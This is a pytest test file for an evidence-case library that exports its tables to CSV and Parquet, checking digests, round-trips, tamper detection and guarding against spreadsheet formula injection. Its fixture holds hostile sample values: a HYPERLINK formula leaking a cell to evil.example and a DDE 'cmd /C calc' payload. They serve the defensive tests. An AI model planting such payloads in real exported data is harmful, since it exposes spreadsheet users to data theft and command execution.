"""Tables of a case as files: complete, bound to the head, harmless in a spreadsheet, and reversible."""

from __future__ import annotations

import csv
import hashlib
import io
import json
from collections.abc import Callable
from datetime import UTC, datetime
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from evidentia.case import Case
from evidentia.case.record_tables import RECORDS, tables_of
from evidentia.case.recorded import recorded
from evidentia.case.table_files import csv_bytes, guarded, kind_of, parquet_bytes, unguarded, write_tables
from evidentia.case.tables import TABLES, Table
from evidentia.formats.head import printed_head
from evidentia.record.errors import CustodyError, MissingPart, UsageError
from evidentia.record.item import Access

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", " =", "＝", "'=", "''+", "' @")


@pytest.fixture
def sealed(case: Case, tmp_path: Path) -> Case:
    """A case with two letters; one has a name and a source that a spreadsheet would run."""
    (tmp_path / "surat.txt").write_text("Kepada Pejabat 07")
    case.add(
        tmp_path / "surat.txt", access=Access.FORWARDED, title=FORMULA, source="@SUM(1+1)*cmd|' /C calc'!A0"
    )
    case.add(tmp_path / "surat.txt", access=Access.UNKNOWN)
    case.export()
    return case


def rows(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))


def test_every_table_is_written_with_its_digest_and_the_head(sealed: Case, tmp_path: Path) -> None:
    about = write_tables(recorded(sealed.folder), tmp_path / "tabel")
    assert {one.table for one in about.tables} == {*RECORDS, *TABLES}
    assert about.head == printed_head(sealed.head)
    for one in about.tables:
        data = (tmp_path / "tabel" / one.file).read_bytes()
        assert hashlib.sha256(data).hexdigest() == one.sha256
        assert len(rows(data)) == one.rows
    kept = json.loads((tmp_path / "tabel" / "tables.json").read_bytes())
    assert kept["case"] == "kasus-07"


def test_items_and_events_hold_what_was_sealed(sealed: Case) -> None:
    tables = {one.name: one for one in tables_of(recorded(sealed.folder))}
    assert tables["items"].column("item") == [1, 2]
    assert tables["items"].column("access") == ["forwarded", "unknown"]
    assert tables["events"].column("type") == [event.type.value for event in sealed.events]
    assert tables["events"].column("seal_sha256")[-1] == sealed.head.seal
    digests = {file.sha256 for item in sealed.items() for file in item.files}
    assert set(tables["files"].column("sha256")) == digests


def test_a_case_and_its_bundle_give_the_same_files(sealed: Case, tmp_path: Path) -> None:
    sealed.export(tmp_path / "b.zip")
    write_tables(recorded(sealed.folder), tmp_path / "satu")
    write_tables(recorded(tmp_path / "b.zip"), tmp_path / "dua")
    for path in (tmp_path / "satu").iterdir():
        assert path.read_bytes() == (tmp_path / "dua" / path.name).read_bytes()


def test_no_cell_of_a_case_is_a_formula(sealed: Case, tmp_path: Path) -> None:
    write_tables(recorded(sealed.folder), tmp_path / "tabel")
    for path in (tmp_path / "tabel").glob("*.csv"):
        for row in rows(path.read_bytes()):
            assert not [cell for cell in row.values() if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    first = rows((tmp_path / "tabel" / "items.csv").read_bytes())[0]
    assert first["title"] == "'" + FORMULA
    assert unguarded(first["title"]) == FORMULA


@pytest.mark.parametrize("start", STARTS)
def test_what_begins_a_formula_is_guarded(start: str) -> None:
    assert guarded(f"{start}1+1") == f"'{start}1+1"


@given(st.one_of(st.text(), st.builds("".join, st.lists(st.sampled_from([*STARTS, "a", "'", " "])))))
def test_the_guard_can_be_taken_off_every_text(text: str) -> None:
    assert unguarded(guarded(text)) == text
    assert not guarded(text).lstrip().startswith(("=", "+", "-", "@"))


def test_a_table_of_any_value_comes_back(tmp_path: Path) -> None:
    at = datetime(2026, 11, 20, 7, 0, tzinfo=UTC)
    row = {"text": 'a "b"\r\n; \ud800', "item": 7, "edit_mark": False, "not_before": at, "reason": None}
    made = Table("t", tuple(row), (row,))
    (read,) = rows(csv_bytes(made))
    assert read == {
        "text": 'a "b"\r\n; \ufffd' if "\ufffd" in read["text"] else read["text"],
        "item": "7",
        "edit_mark": "false",
        "not_before": "2026-11-20T07:00:00Z",
        "reason": "",
    }


def test_columns_of_one_name_hold_what_their_kind_says(sealed: Case) -> None:
    kinds = {"number": int, "flag": bool, "moment": datetime, "text": str}
    for table in tables_of(recorded(sealed.folder)):
        for name in table.columns:
            for value in table.column(name):
                assert value is None or type(value) is kinds[kind_of(table.name, name)], (table.name, name)


def test_parquet_holds_the_same_rows_with_types(
    sealed: Case, tmp_path: Path, absent: Callable[[str], None]
) -> None:
    try:
        import pyarrow
        import pyarrow.parquet
    except ModuleNotFoundError:
        absent("pyarrow is not installed: run scripts/install")
    write_tables(recorded(sealed.folder), tmp_path / "tabel", parquet=True)
    for table in tables_of(recorded(sealed.folder)):
        read = pyarrow.parquet.read_table(tmp_path / "tabel" / f"{table.name}.parquet")
        assert tuple(read.column_names) == table.columns
        assert read.to_pylist() == [dict(row) for row in table]
        assert parquet_bytes(table) == (tmp_path / "tabel" / f"{table.name}.parquet").read_bytes()
    assert str(read.schema.field("not_before").type) == "timestamp[us, tz=UTC]"  # also in an empty table
    titles = pyarrow.parquet.read_table(tmp_path / "tabel" / "items.parquet").column("title").to_pylist()
    assert titles[0] == FORMULA  # a typed file needs no guard


def test_without_pyarrow_nothing_is_written_and_it_is_said(
    sealed: Case, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("evidentia.case.table_files.find_spec", lambda _: None)
    with pytest.raises(MissingPart, match="pyarrow"):
        write_tables(recorded(sealed.folder), tmp_path / "tabel", parquet=True)
    assert not (tmp_path / "tabel").exists()


def test_a_folder_that_is_there_is_never_written_into(sealed: Case, tmp_path: Path) -> None:
    (tmp_path / "tabel").mkdir()
    with pytest.raises(UsageError, match="already there"):
        write_tables(recorded(sealed.folder), tmp_path / "tabel")
    assert not list((tmp_path / "tabel").iterdir())


def test_a_file_that_was_changed_is_left_out_and_named(sealed: Case) -> None:
    path = sealed.folder / "data" / "000001" / "item.json"
    path.chmod(0o644)
    path.write_bytes(path.read_bytes().replace(b"forwarded", b"public   "))
    told = recorded(sealed.folder)
    assert [item.item for item in told.items] == [2]
    assert any("data/000001/item.json: its bytes are not those" in problem for problem in told.problems)


def test_a_record_that_was_changed_takes_its_item_along(sealed: Case) -> None:
    path = sealed.folder / "custody" / "items" / "000002.sha256"
    path.chmod(0o644)
    path.write_bytes(path.read_bytes() + b"\n")
    told = recorded(sealed.folder)
    assert [item.item for item in told.items] == [1]
    assert any("not the record that its event names" in problem for problem in told.problems)


def test_what_is_no_case_is_said_so(tmp_path: Path) -> None:
    (tmp_path / "x.zip").write_bytes(b"PK\x03\x04 and no more")
    for where in (tmp_path, tmp_path / "x.zip"):
        with pytest.raises(CustodyError, match="cannot be read as a case"):
            recorded(where)
